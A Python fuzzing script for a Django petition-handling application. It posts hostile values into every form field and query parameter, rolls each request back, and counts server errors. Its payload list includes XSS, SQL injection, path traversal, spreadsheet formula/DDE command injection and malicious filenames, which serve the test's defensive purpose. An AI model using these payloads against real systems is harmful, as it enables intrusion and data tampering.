"""Hostile inputs: every field of every form and endpoint, one hostile value at a time; count the 5xx answers.

Run from the project root:

    .venv/bin/python bench/hostile_inputs.py              # fresh demo county (xinfang demo) in a temp dir
    .venv/bin/python bench/hostile_inputs.py --quick      # fewer values per field
    XINFANG_DATABASE_URL=postgres://… .venv/bin/python bench/hostile_inputs.py --existing

What is posted, each time as a user who may use the form:

- 登记 (case_new) as a registrar: the page's own form is read from its HTML; a plausible valid submission is
  built from it, then each field in turn gets each hostile value (and each file input hostile files);
- every action of the item page (the transition table): for each action an item in the right state and a user
  allowed to do it are found, and the action's form is attacked the same way;
- 案件列表 filters, the Excel export, the person look-up, the suggestions, hot topics (GET parameters);
- the reply check and the category choice (POST), login and password change.

Every POST runs inside a transaction that is rolled back afterwards, so each one meets the item in the same state.
A response of 500 or more (or an exception escaping the view) is counted and listed with the field and value.
Exit code 1 if there is any.
"""

from __future__ import annotations

import argparse
import io
import json
import logging
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

HOSTILE_TEXT: list[str] = [
    "\x00",
    "a\x00b",
    "a\x01b",
    "a\x0bb",
    "²",
    "１２３４５",  # full-width digits
    "１３８００１３８０００",
    "x" * 10_000,
    "测" * 10_000,
    '=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "9999-12-31",
    "0001-01-01",
    "2026-02-30",
    "２０２６-１１-３０",
    "-1",
    "-99999999999999999999999",
    "99999999999999999999999",
    "1e309",
    "NaN",
    "0",
    "1.5",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "no-such-choice",
    "",
    "   ",
    "😀👍",
    "' OR 1=1 --",
    "../../etc/passwd",
    "\u202e\u0627\u0644",
]
QUICK_TEXT = ["\x00", "a\x0bb", "²", "１２３４５", "x" * 10_000, "=HYPERLINK(\"x\")", "9999-12-31", "-1",
              "99999999999999999999999", "<script>alert(1)</script>", "no-such-choice", ""]
HUGE = 25 * 1024 * 1024  # above the default 20 MB attachment limit


def hostile_files(quick: bool) -> list[tuple[str, bytes]]:
    files = [
        ("empty.pdf", b""),
        ("fake.pdf", b"MZ\x90\x00 not a pdf"),
        ("a\x00b.pdf", b"%PDF-1.4\n%%EOF"),
        ("x" * 300 + ".pdf", b"%PDF-1.4\n%%EOF"),
        ("noext", b"hello"),
        ("..\\..\\evil.exe", b"MZ"),
    ]
    if not quick:
        files.append(("huge.pdf", b"%PDF-1.4\n" + b"0" * HUGE))
    return files


# --- forms from HTML -----------------------------------------------------------------------------------------


@dataclass
class Field:
    name: str
    kind: str  # text, textarea, select, checkbox, radio, file, hidden, date, number, password …
    value: str = ""
    options: list[str] = field(default_factory=list)
    required: bool = False
    checked: bool = False


@dataclass
class Form:
    method: str
    action: str
    fields: dict[str, Field] = field(default_factory=dict)


class FormParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[Form] = []
        self._form: Form | None = None
        self._select: Field | None = None
        self._textarea: Field | None = None

    def handle_starttag(self, tag, attrs):
        a = {k: (v or "") for k, v in attrs}
        if tag == "form":
            self._form = Form(method=a.get("method", "get").lower(), action=a.get("action", ""))
            self.forms.append(self._form)
            return
        form = self._form
        if form is None:
            return
        name = a.get("name", "")
        if tag == "input" and name and "__prefix__" not in name:
            kind = a.get("type", "text").lower()
            if kind in ("submit", "button", "reset", "image"):
                return
            if kind == "radio" and name in form.fields:
                form.fields[name].options.append(a.get("value", ""))
                if "checked" in a:
                    form.fields[name].value = a.get("value", "")
                return
            form.fields[name] = Field(
                name=name, kind=kind, value=a.get("value", ""), required="required" in a,
                checked="checked" in a, options=[a.get("value", "")] if kind == "radio" else [],
            )
        elif tag == "select" and name and "__prefix__" not in name:
            self._select = Field(name=name, kind="select", required="required" in a)
            form.fields[name] = self._select
        elif tag == "option" and self._select is not None:
            value = a.get("value", "")
            self._select.options.append(value)
            if "selected" in a:
                self._select.value = value
        elif tag == "textarea" and name and "__prefix__" not in name:
            self._textarea = Field(name=name, kind="textarea", required="required" in a)
            form.fields[name] = self._textarea

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data


def page_form(html: str, url: str) -> Form | None:
    """The page's main POST form: the one posting to the page itself with the most fields (not the nav's logout)."""
    parser = FormParser()
    parser.feed(html)
    candidates = [f for f in parser.forms if f.method == "post" and f.action in ("", url, "?")]
    candidates = candidates or [f for f in parser.forms if f.method == "post" and "logout" not in f.action]
    return max(candidates, key=lambda f: len(f.fields), default=None)


def plausible(f: Field, today: str) -> str | None:
    """A value that makes this field valid, so hostile values in other fields reach the service."""
    n = f.name.lower()
    if f.kind == "checkbox":
        return "on" if (f.required or f.checked) else None
    if f.kind in ("select", "radio"):
        if f.value:
            return f.value
        options = [o for o in f.options if o]
        return options[0] if options else ""
    if f.kind == "file":
        return None
    if f.value:
        return f.value
    if f.kind == "date" or n.endswith("_on") or "date" in n or n.endswith("_from") or n.endswith("_to"):
        return today
    if "id_number" in n:
        return "11010519491231002X"
    if "phone" in n:
        return "13800138000"
    if n.endswith("name"):
        return "陈大明"
    if f.kind == "number" or n.endswith("count") or n.endswith("days"):
        return "5" if n.endswith("count") else "10"
    if "number" in n:
        return "清信复〔2026〕1号"
    return "经调查核实，反映情况基本属实，依法予以处理。" if f.kind == "textarea" else "测试内容"


def baseline(form: Form, today: str) -> dict[str, str]:
    data = {}
    for f in form.fields.values():
        value = plausible(f, today)
        if value is not None:
            data[f.name] = value
    return data


# --- the run -------------------------------------------------------------------------------------------------


@dataclass
class Outcome:
    requests: int = 0
    statuses: Counter = field(default_factory=Counter)
    errors: list[str] = field(default_factory=list)
    by_target: Counter = field(default_factory=Counter)
    skipped: list[str] = field(default_factory=list)


def show(value) -> str:
    if isinstance(value, tuple):
        return f"file {value[0][:40]!r} ({len(value[1])} B)"
    text = repr(value)
    return text if len(text) <= 50 else f"{text[:40]}…（{len(value)} 字符）"


class Runner:
    def __init__(self, *, quick: bool, log: Callable[[str], None]) -> None:
        from django.test import Client

        self.quick = quick
        self.values = QUICK_TEXT if quick else HOSTILE_TEXT
        self.files = hostile_files(quick)
        self.log = log
        self.out = Outcome()
        self.Client = Client

    def client(self, user=None):
        c = self.Client(raise_request_exception=False)
        if user is not None:
            c.force_login(user)
        return c

    def send(self, client, method: str, url: str, data: dict, target: str, what: str) -> None:
        from django.db import transaction

        self.out.requests += 1
        self.out.by_target[target] += 1
        try:
            with transaction.atomic():
                if method == "POST":
                    response = client.post(url, data)
                else:
                    response = client.get(url, data)
                transaction.set_rollback(True)
        except Exception as exc:  # noqa: BLE001 (anything escaping the view counts as a server error)
            self.out.statuses[599] += 1
            self.out.errors.append(f"{method} {url} {what}: {type(exc).__name__}: {str(exc)[:160]}")
            return
        self.out.statuses[response.status_code] += 1
        if response.status_code >= 500:
            exc_info = getattr(response, "exc_info", None)
            why = f"{exc_info[0].__name__}: {str(exc_info[1])[:160]}" if exc_info else ""
            self.out.errors.append(f"{method} {url} {what}: {response.status_code} {why}")

    def attack_form(self, client, url: str, target: str, extra: dict | None = None) -> None:
        from xinfang.core import clock

        page = client.get(url)
        if page.status_code != 200:
            self.out.skipped.append(f"{target}: GET {url} → {page.status_code}")
            return
        form = page_form(page.content.decode("utf-8", errors="ignore"), url)
        if form is None:
            self.out.skipped.append(f"{target}: {url} 上没有表单")
            return
        base = baseline(form, clock.today().isoformat())
        base.update(extra or {})
        self.send(client, "POST", url, base, target, "（基线）")
        for f in form.fields.values():
            if f.kind == "file":
                for name, content in self.files:
                    upload = io.BytesIO(content)
                    upload.name = name
                    self.send(client, "POST", url, {**base, f.name: upload}, target, f"{f.name}={show((name, content))}")
                continue
            for value in self.values:
                self.send(client, "POST", url, {**base, f.name: value}, target, f"{f.name}={show(value)}")
            # Two values for one field, and the field left out.
            self.send(client, "POST", url, {**base, f.name: ["1", "2"]}, target, f"{f.name}=[两个值]")
            rest = {k: v for k, v in base.items() if k != f.name}
            self.send(client, "POST", url, rest, target, f"{f.name} 缺失")

    def attack_query(self, client, url: str, params: list[str], target: str, method: str = "GET",
                     base: dict | None = None) -> None:
        base = base or {}
        for p in params:
            for value in self.values:
                self.send(client, method, url, {**base, p: value}, target, f"{p}={show(value)}")
            self.send(client, method, url, {**base, p: ["1", "2"]}, target, f"{p}=[两个值]")


def find_action_targets():
    """(ui code, item, user) for each action of the item page: an item in the right state that the user sees
    and may act on."""
    from xinfang.cases.models import Case
    from xinfang.cases.selectors import available_actions, cases_visible_to
    from xinfang.orgs.models import User
    from xinfang.workbench.actions import UI_ACTIONS

    users = list(User.objects.filter(is_active=True).select_related("unit").order_by("username"))
    visible = {u.pk: set(cases_visible_to(u).values_list("pk", flat=True)) for u in users}
    wanted = {ui.code: ui for ui in UI_ACTIONS}
    found: dict[str, tuple] = {}
    by_status: dict[str, list] = {}
    for case in Case.objects.select_related("current_unit").order_by("pk"):
        by_status.setdefault(case.status, []).append(case)
    for cases in by_status.values():
        for case in cases[:8]:
            for user in users:
                if case.pk not in visible[user.pk]:
                    continue
                codes = {t.action for t in available_actions(user, case)}
                for code, ui in wanted.items():
                    if code not in found and ui.transitions & codes:
                        found[code] = (ui, case, user)
            if len(found) == len(wanted):
                return found, []
    return found, sorted(set(wanted) - set(found))


def run(quick: bool, log: Callable[[str], None] = print) -> Outcome:
    from django.urls import reverse

    from xinfang.cases.models import Case
    from xinfang.cases.states import Status
    from xinfang.orgs.models import User
    from xinfang.orgs.permissions import Perm, Role

    logging.getLogger("django.request").setLevel(logging.CRITICAL)
    logging.getLogger("django.security").setLevel(logging.CRITICAL)
    logging.getLogger("axes").setLevel(logging.CRITICAL)
    r = Runner(quick=quick, log=log)

    registrar = User.objects.filter(grants__role=Role.REGISTRAR).order_by("username").first()
    c = r.client(registrar)

    # 登记
    r.attack_form(c, reverse("workbench:case_new"), "登记")
    log(f"  登记：累计 {r.out.requests} 次")

    # Every action of the item page.
    targets, missing = find_action_targets()
    for code in missing:
        r.out.skipped.append(f"操作 {code}：演示库中没有可执行它的信访件")
    for code, (_ui, case, user) in sorted(targets.items()):
        url = reverse("workbench:case_action", args=[case.pk, code])
        r.attack_form(r.client(user), url, f"操作 {code}")
    log(f"  办理操作 {len(targets)} 个：累计 {r.out.requests} 次")

    # Lists, export, look-ups (GET).
    list_params = ["q", "status", "channel", "received_from", "received_to", "overdue", "repeat", "group", "sort",
                   "page", "category", "unit", "claim_type", "place"]
    r.attack_query(c, reverse("workbench:case_list"), list_params, "案件列表")
    r.attack_query(c, reverse("workbench:case_export"), list_params[:9], "导出")
    r.attack_query(c, reverse("workbench:person_items"), ["id_number", "phone", "name"], "人员查询")
    r.attack_query(c, reverse("workbench:suggest"),
                   ["title", "content", "category", "problem_place", "id_number", "phone"], "登记建议")
    r.attack_query(c, reverse("workbench:hot_topics"), ["days"], "民情分析")
    r.attack_query(c, reverse("workbench:home"), ["page"], "工作台")
    log(f"  列表与查询：累计 {r.out.requests} 次")

    # Item-level JSON and POST endpoints.
    handling = Case.objects.filter(status=Status.HANDLING).order_by("pk").first()
    if handling is not None:
        handler = next(
            (u for u in User.objects.filter(grants__role__in=[Role.HANDLER, Role.UNIT_HEAD]).order_by("username")
             if _can(u, Perm.HANDLE, handling)), None)
        if handler is not None:
            hc = r.client(handler)
            r.attack_query(hc, reverse("workbench:reply_check", args=[handling.pk]),
                           ["request_summary", "facts", "opinion", "legal_basis", "items-0-request"], "意见书检查",
                           method="POST")
            r.attack_query(hc, reverse("workbench:case_suggestions", args=[handling.pk]), ["x"], "信访件建议")
    at_bureau = Case.objects.filter(status=Status.ROUTING).order_by("pk").first()
    if at_bureau is not None:
        r.attack_query(c, reverse("workbench:case_set_category", args=[at_bureau.pk]), ["category"], "确定分类",
                       method="POST")
    log(f"  信访件接口：累计 {r.out.requests} 次")

    # Login (anonymous) and password change (as the registrar: the password never actually changes, rolled back).
    anon = r.client()
    login = reverse("workbench:login")
    r.attack_query(anon, login, ["username", "password"], "登录", method="POST",
                   base={"username": "nobody", "password": "wrong-password"})
    r.attack_form(c, reverse("workbench:password_change"), "修改密码")
    log(f"  登录与密码：累计 {r.out.requests} 次")
    return r.out


def _can(user, perm, case) -> bool:
    from xinfang.orgs import policies

    return policies.can(user, perm, case.current_unit)


def report(out: Outcome, elapsed: float, p: Callable[[str], None] = print) -> int:
    p("")
    p(f"请求 {out.requests} 次，用时 {elapsed:.0f} 秒")
    p(f"各目标请求数：{dict(out.by_target)}")
    p(f"状态码分布：{dict(sorted(out.statuses.items()))}")
    for line in out.skipped:
        p(f"未测：{line}")
    p(f"5xx：{len(out.errors)}")
    for line in out.errors[:40]:
        p(f"  · {line}")
    p(json.dumps({"requests": out.requests, "server_errors": len(out.errors), "statuses": dict(out.statuses),
                  "skipped": out.skipped, "seconds": round(elapsed, 1)}, ensure_ascii=False))
    return 1 if out.errors else 0


def main() -> int:
    from bench.authz_sweep import open_database

    parser = argparse.ArgumentParser(description="恶意输入扫描：统计 5xx")
    parser.add_argument("--quick", action="store_true", help="每个字段只用一部分恶意值，不发送超大文件")
    parser.add_argument("--demo-items", type=int, default=400)
    parser.add_argument("--existing", action="store_true", help="使用 XINFANG_DATABASE_URL 指向的现有数据库")
    args = parser.parse_args()
    tmp = open_database(existing=args.existing, demo_items=args.demo_items, prefix="xinfang-hostile-")
    started = time.perf_counter()
    out = run(args.quick)
    code = report(out, time.perf_counter() - started)
    if tmp is not None:
        tmp.cleanup()
    return code


if __name__ == "__main__":
    sys.exit(main())
